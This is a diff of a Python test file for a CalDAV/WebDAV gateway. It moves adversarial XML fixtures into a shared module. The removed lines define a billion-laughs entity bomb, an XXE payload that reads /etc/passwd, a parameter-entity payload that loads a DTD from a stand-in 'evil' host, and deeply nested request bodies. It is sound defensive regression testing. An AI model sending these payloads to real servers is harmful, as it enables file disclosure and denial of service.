@@ -20,60 +20,10 @@ from pathlib import Path
 import httpx
 import pytest
 
+from tests.adversarial.bombs import LAUGHS, PARAM_ENTITY, XXE, deep_propfind, deep_report
 from tests.davserver import raw
 from tests.davserver.helpers import PASSWORD, USER, Gateway, config_text
 from tests.gateway.helpers import DaemonProcess
-
-CALDAV = "urn:ietf:params:xml:ns:caldav"
-
-
-def deep_propfind(depth: int) -> bytes:
-    """A PROPFIND whose elements nest ``depth`` deep in all."""
-    inner = depth - 2
-    return (
-        b'<?xml version="1.0"?><d:propfind xmlns:d="DAV:"><d:prop>'
-        + b"<d:x>" * inner
-        + b"</d:x>" * inner
-        + b"</d:prop></d:propfind>"
-    )
-
-
-def deep_report(depth: int, element: str = 'c:comp-filter name="VCALENDAR"') -> bytes:
-    """A calendar-query whose filter nests ``depth`` deep in all (``element`` inside)."""
-    inner = depth - 2
-    name = element.split()[0]
-    return (
-        f'<?xml version="1.0"?><c:calendar-query xmlns:d="DAV:" xmlns:c="{CALDAV}">'
-        "<c:filter>".encode()
-        + f"<{element}>".encode() * inner
-        + f"</{name}>".encode() * inner
-        + b"</c:filter></c:calendar-query>"
-    )
-
-
-LAUGHS = b"""<?xml version="1.0"?>
-<!DOCTYPE lolz [
- <!ENTITY lol "lol">
- <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
- <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
- <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
- <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
- <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
- <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
- <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
- <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
- <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-]>
-<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&lol9;</d:displayname></d:prop></d:propfind>"""
-
-XXE = b"""<?xml version="1.0"?>
-<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
-<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&xxe;</d:displayname></d:prop></d:propfind>"""
-
-PARAM_ENTITY = b"""<?xml version="1.0"?>
-<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
-<d:propfind xmlns:d="DAV:"><d:prop><d:displayname/></d:prop></d:propfind>"""
-
 
 # -- finding 2: XML nested too deep ----------------------------------------------------------
 
@@ -250,8 +200,7 @@ def _daemon(tmp_path: Path) -> DaemonProcess:
 @pytest.mark.slow
 def test_a_deep_body_does_not_take_the_daemon_down(tmp_path: Path) -> None:
     """150k deep segfaulted the process (SyncML, the API and the scheduler with it)."""
-    from tests.syncml.scripted import alert, devinf_put
-    from tests.syncml.test_gateway import HttpDevice
+    from tests.syncml.scripted import HttpDevice, alert, devinf_put
 
     with _daemon(tmp_path) as d:
         for method, body in (
